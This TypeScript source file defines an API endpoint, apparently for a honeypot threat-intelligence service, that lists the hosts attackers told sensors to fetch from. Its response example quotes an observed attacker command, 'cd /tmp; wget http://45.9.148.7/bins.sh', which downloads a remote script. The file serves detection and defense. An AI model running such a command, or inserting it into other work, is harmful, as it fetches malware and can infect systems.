import { defineOperation } from "@noisefloor/http/operations/operation.ts";
import { type Parameter, wholeNumber } from "@noisefloor/http/requests/parameters.ts";
import { z } from "zod";
import { otherLengths, WORKSPACE_LABELS } from "../parameters.ts";
import { wrongQuery } from "../search/operations.ts";
import { QUERY, SEARCH_DAYS } from "../search/parameters.ts";
import { count, NOT_ENTITLED, texts, timestamp } from "../wire.ts";
import { MAX_TEXTS } from "./queries.ts";

export const CALLBACKS = { group: "Callbacks" } as const;

export const VISITORS: Parameter<string | undefined> = {
  ...QUERY,
  description: "Which visitors count, in the search language: the hosts that they named. Left out, all do.",
  schema: z
    .string()
    .optional()
    .transform((given) => (given === "" ? undefined : given)),
};

export const IS_KNOWN: Parameter<boolean | undefined> = {
  name: "known",
  description: "`false`: only hosts that may be an intruder's; `true`: only well-known ones. Left out: both.",
  takes: "true, false, 1 or 0",
  schema: z.stringbool({ truthy: ["true", "1"], falsy: ["false", "0"], case: "sensitive" }).optional(),
  describedBy: "output",
  example: "false",
};

export const MAX_CALLBACKS = 1_000;
export const CALLBACKS_LIMIT = wholeNumber({
  name: "limit",
  alsoCalled: otherLengths("limit"),
  description: "How many hosts the list has at most, those that were named last.",
  min: 1,
  max: MAX_CALLBACKS,
  fallback: 100,
});

const newest = (what: string) => texts.describe(`${what}: the ${MAX_TEXTS} seen last, the newest first.`);

const callbackSchema = z
  .strictObject({
    host: z.string().describe("An IPv4 address, or a name in lower case."),
    kind: z.enum(["address", "name"]),
    known: z.boolean().describe("Whether it is a well-known host, which no feed lists."),
    known_as: z.string().describe("What a well-known host is; else empty."),
    ports: z.array(z.int().min(1).max(65_535)),
    schemes: texts,
    first_seen: timestamp,
    last_seen: timestamp,
    visitors: count.describe("How many addresses named it."),
    commands: newest("Commands, lines and parts of bodies that named it"),
    urls: newest("What was to be fetched, or connected to"),
    sha256: newest("Digests of what sensors fetched from it"),
  })
  .meta({ id: "Callback" });
export type WireCallback = z.output<typeof callbackSchema>;

/** `GET /v3/callbacks`. */
export const getCallbacks = defineOperation({
  ...CALLBACKS,
  id: "getCallbacks",
  method: "GET",
  path: "/v3/callbacks",
  summary: "The hosts that visitors told sensors to fetch from or to connect to",
  description:
    "A machine of one's own that talks to one of them, and to no well-known one, is likely infected. Names are never resolved, and nothing is fetched. Where the caller's plan allows fewer days, the response covers fewer, without an error. Does not count as a lookup. Any value of `workspace_labels` needs the entitlement.",
  pathParameters: {},
  queryParameters: [VISITORS, SEARCH_DAYS, IS_KNOWN, CALLBACKS_LIMIT, WORKSPACE_LABELS],
  success: {
    status: 200,
    description: "The hosts, the last seen first, ties by host.",
    schema: z
      .strictObject({ count: count.describe("How many hosts there are, exactly."), callbacks: z.array(callbackSchema) })
      .meta({ id: "Callbacks" }),
    example: {
      count: 1,
      callbacks: [
        {
          host: "45.9.148.7",
          kind: "address",
          known: false,
          known_as: "",
          ports: [80],
          schemes: ["http"],
          first_seen: "2026-11-20T12:00:00Z",
          last_seen: "2026-11-21T08:30:00Z",
          visitors: 3,
          commands: ["cd /tmp; wget http://45.9.148.7/bins.sh"],
          urls: ["http://45.9.148.7/bins.sh"],
          sha256: ["e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"],
        },
      ],
    },
  },
  errorResponses: { 400: wrongQuery, 403: NOT_ENTITLED },
});
